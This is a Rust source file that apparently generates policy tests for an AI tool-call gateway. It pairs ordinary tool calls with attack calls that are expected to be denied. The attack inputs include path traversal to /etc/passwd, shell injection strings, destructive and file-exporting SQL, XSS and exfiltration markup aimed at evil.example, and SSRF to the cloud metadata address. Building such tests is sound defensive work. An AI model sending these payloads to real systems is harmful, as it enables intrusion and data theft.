//! Tests for a recommended policy: an ordinary call of each tool, and attacks on what its rules are about.

use super::arguments::{Argument, arguments, schema_of};
use super::sample::{self, Wanted, number, text};
use super::terms::{Approval, Condition, Entry, Fate, Plan, Validation, Value};
use super::yaml::{quoted, scalar, sentence};
use super::{HoleKind, RuleKind};
use callgate_core::json::Json;
use callgate_core::path::{Path, Segment};
use callgate_wire::JsonStyle;
use std::borrow::Cow;
use std::fmt::Write as _;

/// Texts of which none is an identifier.
const ODD: [&str; 4] = ["a/../b", "a; touch X #", "<executionId>", "a\nb"];

/// The whole file.
pub(super) fn tests(tools: &[(Plan, &Json<'_>)]) -> String {
    let mut out = String::from(
        "# Tests of the recommended rules: `callgate test`. What is filled in by hand later changes what is expected.\n",
    );
    if tools.is_empty() {
        out.push_str("cases:\n  - {name: what is not listed, tool: anything, expect: deny}\n");
        return out;
    }
    out.push_str("tools:\n");
    for (plan, tool) in tools {
        let _ = write!(out, "  - {{name: {}", quoted(&plan.name));
        if let Some(schema) = schema_of(tool) {
            out.push_str(", inputSchema: ");
            out.push_str(&FLOW.text(schema));
        }
        out.push_str("}\n");
    }
    out.push_str("\ncases:\n");
    for (plan, tool) in tools {
        of_tool(&mut out, plan, tool);
    }
    out.push_str("  - {name: what is not listed, tool: a-tool-that-nobody-lists, expect: deny}\n");
    out
}

/// The arguments of an ordinary call, as JSON.
pub(super) fn example(plan: &Plan, tool: &Json<'_>) -> Option<String> {
    if plan.fate != Fate::Listed {
        return None;
    }
    let (wanted, needed) = wanted(plan, &arguments(tool));
    Some(JsonStyle::COMPACT.text(&sample::call(tool, &wanted, &needed)?))
}

/// One expected call.
#[derive(Debug)]
struct Expected<'e> {
    arguments: Json<'static>,
    /// The rule that denies; any, where it is empty.
    rule: Option<&'e str>,
    reason: Option<&'static str>,
}

fn of_tool(out: &mut String, plan: &Plan, tool: &Json<'_>) {
    if let Fate::Hidden { .. } = plan.fate {
        let name = sentence(&format!("{} is hidden", super::one_line(&plan.name)));
        let _ = writeln!(
            out,
            "  - {{name: {}, tool: {}, expect: deny}}",
            flow(&name),
            quoted(&plan.name)
        );
        return;
    }
    let listed = arguments(tool);
    let (wanted, needed) = wanted(plan, &listed);
    let Some(ordinary) = sample::call(tool, &wanted, &needed) else {
        return;
    };
    let blocked = blocked(plan, &ordinary);
    first(out, plan, &ordinary, blocked);
    let attacks = attacks(plan, &listed, &ordinary, tool);
    if attacks.is_empty() {
        return;
    }
    case(out, plan, "what is denied");
    out.push_str("    calls:\n");
    for attack in attacks {
        out.push_str("      - {args: ");
        out.push_str(&FLOW.text(&attack.arguments));
        out.push_str(", expect: deny");
        // An open list denies before the rule that the attack is on.
        if blocked.is_none() {
            if let Some(rule) = attack.rule {
                let _ = write!(out, ", rule: {}", quoted(rule));
            }
            if let Some(reason) = attack.reason {
                let _ = write!(out, ", reason: {reason}");
            }
        }
        out.push_str("}\n");
    }
}

fn flow(text: &str) -> String {
    if text.starts_with('"') {
        text.to_owned()
    } else {
        scalar(text)
    }
}

fn case(out: &mut String, plan: &Plan, what: &str) {
    let name = format!("{}, {what}", super::one_line(&plan.name));
    let _ = writeln!(out, "  - name: {}", sentence(&name));
    let _ = writeln!(out, "    tool: {}", quoted(&plan.name));
}

/// The rule that denies every ordinary call, because a list of it is open.
fn blocked<'p>(plan: &'p Plan, ordinary: &Json<'_>) -> Option<&'p str> {
    let open = |hole: usize| plan.holes.get(hole).filter(|hole| hole.is_open());
    if let Some(budget) = &plan.budget
        && budget.most.is_none()
    {
        return open(budget.hole).map(|hole| &*hole.rule);
    }
    plan.entries.iter().find_map(|entry| {
        let hole = open(entry.hole?)?;
        let is_there = entry.arguments.iter().any(|path| has(ordinary, &path.segments));
        is_there.then_some(&*hole.rule)
    })
}

fn has(json: &Json<'_>, segments: &[Segment]) -> bool {
    let Some((first, rest)) = segments.split_first() else {
        return true;
    };
    match (first, json) {
        (Segment::Key(key), Json::Object(_)) => json.get(key).is_some_and(|value| has(value, rest)),
        (Segment::Each, Json::Array(items)) => items.first().is_some_and(|item| has(item, rest)),
        _ => false,
    }
}

/// The ordinary call, and where the tool is limited, one too many.
fn first(out: &mut String, plan: &Plan, ordinary: &Json<'static>, blocked: Option<&str>) {
    let passes = blocked.is_none() && !matches!(plan.approval, Approval::Always { .. });
    let what = match blocked {
        Some(_) => "until its lists are filled in",
        None => "ordinary use",
    };
    case(out, plan, what);
    out.push_str("    args: ");
    out.push_str(&FLOW.text(ordinary));
    out.push('\n');
    match (blocked, passes) {
        (Some(rule), _) => {
            let _ = writeln!(out, "    expect: deny\n    rule: {}", quoted(rule));
        }
        (None, false) => out.push_str("    expect: deny\n    reason: approval_required\n"),
        (None, true) => match plan.a_minute {
            None => out.push_str("    expect: allow\n"),
            Some(max) => {
                let _ = writeln!(
                    out,
                    "    calls: [{{times: {max}, expect: allow}}, {{expect: deny, reason: rate_limited}}]"
                );
            }
        },
    }
}

/// What an ordinary call holds where rules ask, and which of it has to be there.
fn wanted(plan: &Plan, listed: &[Argument]) -> (Wanted, Vec<Path>) {
    let mut wanted = Wanted::new();
    let mut needed = Vec::new();
    for entry in &plan.entries {
        for path in &entry.arguments {
            let is_number = listed
                .iter()
                .any(|argument| argument.path == *path && argument.kinds.is_number());
            if let Some(value) = value_for(plan, entry, path, is_number) {
                wanted.insert(path.clone(), value);
            }
            if !is_optional(&entry.condition, path) {
                needed.push(path.clone());
            }
        }
    }
    if let Some(budget) = &plan.budget {
        wanted.insert(budget.path.clone(), number("1"));
    }
    (wanted, needed)
}

fn is_optional(condition: &Condition, path: &Path) -> bool {
    match condition {
        Condition::Any(_) | Condition::When(_) => true,
        Condition::All(members) => members
            .iter()
            .all(|member| !is_about(member, path) || is_optional(member, path)),
        Condition::Test { .. } | Condition::Not(_) => false,
    }
}

fn is_about(condition: &Condition, path: &Path) -> bool {
    match condition {
        Condition::Test { path: own, .. } => own == path,
        Condition::All(members) | Condition::Any(members) => {
            members.iter().any(|member| is_about(member, path))
        }
        Condition::Not(member) => is_about(member, path),
        Condition::When(_) => false,
    }
}

/// A value that the entry lets pass.
fn value_for(plan: &Plan, entry: &Entry, path: &Path, is_number: bool) -> Option<Json<'static>> {
    if let Some(hole) = entry.hole.and_then(|hole| plan.holes.get(hole)) {
        let value = hole.values.first().map(String::as_str);
        return Some(match hole.kind {
            HoleKind::Names if is_number => number(value.unwrap_or("1")),
            HoleKind::Names => text(value.unwrap_or("example")),
            HoleKind::Addresses => text(&value.unwrap_or("ana@example.com").replacen('*', "ana", 1)),
            HoleKind::Hosts => text(&format!(
                "https://{}/",
                value.unwrap_or("example.com").replacen('*', "www", 1)
            )),
            HoleKind::Folders => {
                let folder = value.unwrap_or("/srv/agent").trim_end_matches('/');
                text(&match folder {
                    "." => "a.txt".to_owned(),
                    folder => format!("{folder}/a.txt"),
                })
            }
            HoleKind::Budget => return None,
        });
    }
    match entry.kind {
        RuleKind::Action => free_action(plan, entry),
        RuleKind::Pattern if entry.name == "paths stay inside" => Some(text("docs/a.txt")),
        RuleKind::Pattern => Some(text("abc-1")),
        RuleKind::Once => Some(text("once-0001")),
        RuleKind::NoWaiting | RuleKind::Safeguard => Some(Json::Bool(false)),
        RuleKind::ReadOnly if is_flag(&entry.condition) => Some(Json::Bool(true)),
        RuleKind::ReadOnly => Some(text("select 1")),
        RuleKind::Html => Some(text("<p>Hello</p>")),
        RuleKind::Open => open_object(&entry.condition, path),
        RuleKind::Bound if is_text(&entry.condition, path) => Some(text("1")),
        RuleKind::Bound
        | RuleKind::Length
        | RuleKind::NoOthers
        | RuleKind::Hidden
        | RuleKind::Schema
        | RuleKind::AllowList
        | RuleKind::Approval
        | RuleKind::Budget
        | RuleKind::Limit => None,
    }
}

fn is_flag(condition: &Condition) -> bool {
    match condition {
        Condition::All(members) => members.iter().any(is_flag),
        Condition::Test { value, .. } => matches!(value, Value::Flag(_)),
        Condition::Any(_) | Condition::Not(_) | Condition::When(_) => false,
    }
}

fn is_text(condition: &Condition, path: &Path) -> bool {
    match condition {
        Condition::All(members) | Condition::Any(members) => {
            members.iter().any(|member| is_text(member, path))
        }
        Condition::Test {
            path: own, operator, ..
        } => own == path && *operator == "regex",
        Condition::Not(_) | Condition::When(_) => false,
    }
}

fn free_action(plan: &Plan, entry: &Entry) -> Option<Json<'static>> {
    let free = match &plan.approval {
        Approval::Unless { path, free, .. } if entry.arguments.contains(path) => free,
        Approval::None | Approval::Always { .. } | Approval::Unless { .. } => {
            listed_values(&entry.condition)?
        }
    };
    free.first().map(|value| text(value))
}

/// The values of the list in a condition.
fn listed_values(condition: &Condition) -> Option<&[String]> {
    match condition {
        Condition::Test {
            value: Value::List { values, .. },
            ..
        } => Some(values),
        Condition::Any(members) | Condition::All(members) => members.iter().find_map(listed_values),
        Condition::Test { .. } | Condition::Not(_) | Condition::When(_) => None,
    }
}

fn open_object(condition: &Condition, path: &Path) -> Option<Json<'static>> {
    let Condition::All(members) = condition else {
        return Some(Json::Object(Vec::new()));
    };
    let mut made = Vec::new();
    for member in members {
        if let Condition::Test {
            path: own,
            value: Value::List { values, .. },
            ..
        } = member
            && let Some(Segment::Key(key)) = own.segments.last()
            && own.segments.len() > path.segments.len()
        {
            made.push((Cow::Owned(key.to_string()), text(values.first()?)));
        }
    }
    Some(Json::Object(made))
}

/// Calls that differ from the ordinary one in what a rule is about.
fn attacks<'p>(
    plan: &'p Plan,
    listed: &[Argument],
    ordinary: &Json<'static>,
    tool: &Json<'_>,
) -> Vec<Expected<'p>> {
    let mut found = Vec::new();
    for entry in &plan.entries {
        let argument = entry
            .arguments
            .iter()
            .filter_map(|path| listed.iter().find(|argument| argument.path == *path))
            .find(|argument| argument.path.segments.len() == 1);
        // What the schema itself denies is denied before the rule is asked.
        let is_plain = argument.is_some_and(|argument| !argument.is_checked);
        let mut add = |value: Json<'static>| {
            if let Some(argument) = argument {
                found.push(Expected {
                    arguments: with(ordinary, &argument.name, value),
                    rule: is_plain.then_some(&*entry.name),
                    reason: None,
                });
            }
        };
        match entry.kind {
            RuleKind::Pattern if entry.name == "paths stay inside" => {
                for path in ["../a.txt", "docs/../../a.txt", "/etc/passwd"] {
                    add(text(path));
                }
            }
            RuleKind::Pattern => ODD.iter().for_each(|odd| add(text(odd))),
            RuleKind::AllowList => of_list(plan, entry, argument, &mut add),
            RuleKind::NoWaiting | RuleKind::Safeguard => add(Json::Bool(true)),
            RuleKind::ReadOnly if is_flag(&entry.condition) => add(Json::Bool(false)),
            RuleKind::ReadOnly => {
                for query in [
                    "drop table a",
                    "select 1; delete from a",
                    "with a as (delete from b) select 1",
                    "select pg_drop_replication_slot('a')",
                    "select U&\"lo\\005fexport\"(1, '/tmp/a')",
                ] {
                    add(text(query));
                }
            }
            RuleKind::Html => {
                add(text("<script>alert(1)</script>"));
                add(text("<div style='background:url(//evil.example/?d=1)'>"));
                add(text("<input type=image src=//evil.example/?d=1>"));
            }
            RuleKind::Once => add(text("a")),
            RuleKind::Bound if argument.is_some_and(|argument| argument.kinds.is_number()) => {
                add(number("-1"));
                add(number("1000000000"));
            }
            RuleKind::Bound => add(text("-1")),
            RuleKind::Open => {
                for odd in ["a; touch X #", "$(touch X)", "a\nb", "--all"] {
                    add(Json::Object(vec![(Cow::Borrowed("name"), text(odd))]));
                }
            }
            RuleKind::Action => {
                let allowed = listed_values(&entry.condition).unwrap_or_default();
                let choices = argument.map_or(&[][..], |argument| &argument.choices);
                let left_out = choices.iter().filter(|value| !allowed.contains(value));
                left_out.for_each(|value| add(text(value)));
            }
            RuleKind::Length
            | RuleKind::NoOthers
            | RuleKind::Hidden
            | RuleKind::Schema
            | RuleKind::Approval
            | RuleKind::Budget
            | RuleKind::Limit => {}
        }
        if entry.kind == RuleKind::NoOthers && ordinary.get("smuggled").is_none() {
            found.push(Expected {
                arguments: with(ordinary, "smuggled", Json::Bool(true)),
                rule: Some(&*entry.name),
                reason: None,
            });
        }
    }
    if plan.validation == Validation::Schema {
        of_schema(ordinary, tool, &mut found);
    }
    of_approval(plan, listed, ordinary, &mut found);
    found
}

fn of_list(plan: &Plan, entry: &Entry, argument: Option<&Argument>, add: &mut impl FnMut(Json<'static>)) {
    let Some(hole) = entry.hole.and_then(|hole| plan.holes.get(hole)) else {
        return;
    };
    let first = hole.values.first().map_or("", String::as_str);
    match hole.kind {
        HoleKind::Names if argument.is_some_and(|argument| argument.kinds.is_number()) => {
            add(number("987654321"));
        }
        HoleKind::Names if argument.is_some_and(|argument| argument.is_choice) => {}
        HoleKind::Names => {
            add(text(&format!("{first}/../a")));
            add(text(&format!("{first}#")));
        }
        HoleKind::Addresses => add(text(&format!(
            "mallory@example.net, {}",
            first.replace('*', "ana")
        ))),
        HoleKind::Hosts => {
            add(text("http://169.254.169.254/latest/meta-data/"));
            add(text("http://localhost/"));
        }
        HoleKind::Folders => {
            add(text("/etc/passwd"));
            add(text(&format!("{first}/../../etc/passwd")));
        }
        HoleKind::Budget => {}
    }
}

/// A closed schema lets nothing through that it does not name.
fn of_schema(ordinary: &Json<'static>, tool: &Json<'_>, found: &mut Vec<Expected<'_>>) {
    let is_closed =
        schema_of(tool).is_some_and(|schema| schema.get("additionalProperties") == Some(&Json::Bool(false)));
    if is_closed && ordinary.get("smuggled").is_none() {
        found.push(Expected {
            arguments: with(ordinary, "smuggled", Json::Bool(true)),
            rule: None,
            reason: Some("arguments_invalid"),
        });
    }
}

fn of_approval(plan: &Plan, listed: &[Argument], ordinary: &Json<'static>, found: &mut Vec<Expected<'_>>) {
    let Approval::Unless { path, free, .. } = &plan.approval else {
        return;
    };
    let Some(argument) = listed.iter().find(|argument| argument.path == *path) else {
        return;
    };
    let allowed: &[String] = plan
        .entries
        .iter()
        .find(|entry| entry.kind == RuleKind::Action)
        .and_then(|entry| listed_values(&entry.condition))
        .unwrap_or_default();
    let held = |value: &&String| allowed.contains(value) && !free.contains(value);
    for value in argument.choices.iter().filter(held) {
        found.push(Expected {
            arguments: with(ordinary, &argument.name, text(value)),
            rule: None,
            reason: Some("approval_required"),
        });
    }
}

fn with(json: &Json<'static>, key: &str, value: Json<'static>) -> Json<'static> {
    let mut members = match json {
        Json::Object(members) => members.clone(),
        Json::Null | Json::Bool(_) | Json::Number(_) | Json::String(_) | Json::Array(_) => Vec::new(),
    };
    match members.iter_mut().find(|(name, _)| name == key) {
        Some((_, old)) => *old = value,
        None => members.push((Cow::Owned(key.to_owned()), value)),
    }
    Json::Object(members)
}

/// JSON values in YAML's flow style.
const FLOW: JsonStyle = JsonStyle {
    quoted,
    ..JsonStyle::SPACED
};
